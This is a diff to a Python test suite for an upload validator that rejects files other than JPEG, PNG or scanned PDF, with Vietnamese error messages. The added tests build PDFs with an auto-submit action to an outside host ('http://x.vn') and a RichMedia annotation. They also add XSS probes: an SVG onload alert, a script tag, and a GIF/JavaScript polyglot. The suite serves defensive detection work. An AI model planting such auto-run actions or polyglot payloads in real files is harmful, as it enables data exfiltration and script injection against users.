@@ -46,6 +46,14 @@ def launches(pdf: pikepdf.Pdf) -> None:
     pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("x.exe"))
 
 
+def sends(pdf: pikepdf.Pdf) -> None:
+    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.SubmitForm, F=String("http://x.vn")))
+
+
+def plays(pdf: pikepdf.Pdf) -> None:
+    pdf.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia)])
+
+
 def dynamic_form(pdf: pikepdf.Pdf) -> None:
     pdf.Root.AcroForm = Dictionary(XFA=pdf.make_stream(b"<xdp/>"))
 
@@ -94,6 +102,13 @@ def test_the_thumbnail_in_a_photo_does_not_end_it() -> None:
         (changed(named_script), "mã lệnh tự chạy"),
         (changed(page_with_script), "mã lệnh tự chạy"),
         (changed(launches), "mã lệnh tự chạy"),
+        (changed(sends), "mã lệnh tự chạy"),
+        (changed(plays), "mã lệnh tự chạy"),
+        (b"\n" + scan_pdf(), "không phải ảnh JPEG, PNG hoặc bản quét PDF"),
+        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "không phải ảnh JPEG"),
+        (b"<!doctype html><script>alert(1)</script>", "không phải ảnh JPEG"),
+        (b"GIF89a/*" + jpeg() + b"*/=1;alert(1)", "không phải ảnh JPEG"),
+        (b"PK\x03\x04" + jpeg(), "không phải ảnh JPEG"),
         (
             changed(opens_with_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
             "mã lệnh tự chạy",
